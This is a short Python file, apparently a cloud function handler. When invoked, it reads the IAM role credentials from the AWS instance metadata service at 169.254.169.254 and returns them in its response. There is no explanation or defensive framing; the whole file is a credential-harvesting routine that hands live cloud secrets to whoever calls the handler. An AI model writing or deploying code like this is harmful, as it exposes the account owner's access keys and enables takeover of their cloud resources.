import requests

IMDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def handle(event):
    role = requests.get(IMDS, timeout=2).text.strip()
    creds = requests.get(IMDS + role, timeout=2).json()
    return {"creds": creds}
